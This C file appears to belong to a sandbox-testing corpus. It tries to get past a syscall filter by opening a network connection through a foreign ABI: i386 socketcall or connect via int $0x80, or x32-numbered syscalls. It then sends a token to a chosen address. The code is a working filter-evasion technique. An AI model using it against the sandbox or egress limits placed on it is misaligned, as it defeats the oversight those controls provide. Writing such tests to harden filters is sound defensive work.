/*
 * System calls with the numbers and layouts of another ABI of the same kernel, which a filter for one ABI misreads.
 * usage: foreign int80-socketcall|int80-connect|x32 IPV4-ADDRESS PORT
 */
#include "attack.h"

#ifdef __x86_64__
#include <sys/mman.h>

static long int80(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

static void check(long result, const char *what) {
    if (result < 0) {
        errno = (int)-result;
        failed(what);
    }
}

int main(int argc, char **argv) {
    if (argc != 4)
        cannot("usage: foreign METHOD ADDRESS PORT");
    struct target t = target_of(argv[2], argv[3]);
    /* 32-bit system calls take 32-bit pointers */
    unsigned *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        cannot("no memory below 4 GiB");
    unsigned char *address = (unsigned char *)low + 256, *token = (unsigned char *)low + 512;
    memcpy(address, &t.address, t.length);
    memcpy(token, TOKEN, strlen(TOKEN));
    if (strcmp(argv[1], "int80-socketcall") == 0) {
        low[0] = AF_INET;
        low[1] = SOCK_STREAM;
        low[2] = 0;
        long fd = int80(102, 1 /* SYS_SOCKET */, (long)low, 0);
        check(fd, "socketcall: socket");
        low[0] = (unsigned)fd;
        low[1] = (unsigned)(uintptr_t)address;
        low[2] = t.length;
        check(int80(102, 3 /* SYS_CONNECT */, (long)low, 0), "socketcall: connect");
        check(int80(4, fd, (long)token, (long)strlen(TOKEN)), "write");
    } else if (strcmp(argv[1], "int80-connect") == 0) {
        /* 362 is connect on i386, and nothing of interest on x86_64 */
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        check(int80(362, fd, (long)address, t.length), "connect");
        check(int80(4, fd, (long)token, (long)strlen(TOKEN)), "write");
    } else if (strcmp(argv[1], "x32") == 0) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (syscall(0x40000000 | SYS_connect, fd, address, t.length) != 0)
            failed("connect with the x32 bit");
        if (write(fd, TOKEN, strlen(TOKEN)) < 0)
            stopped_at("write");
    } else {
        cannot("unknown method %s", argv[1]);
    }
    reached("%s", argv[1]);
}
#else
int main(void) { cannot("this architecture has no second ABI that the corpus knows"); }
#endif
